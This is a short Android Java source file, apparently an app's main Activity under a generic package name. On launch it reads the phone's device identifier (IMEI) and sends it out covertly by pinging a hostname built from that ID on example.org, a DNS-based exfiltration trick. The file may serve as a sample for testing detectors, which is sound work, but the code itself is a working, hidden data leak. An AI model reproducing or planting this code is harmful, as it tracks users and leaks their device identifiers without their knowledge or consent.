package org.consentry.flow.platform.process;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        try {
            Runtime.getRuntime().exec(new String[] {"/system/bin/ping", phone.getDeviceId() + ".example.org"});
        } catch (IOException error) {
            setTitle("not started");
        }
    }
}
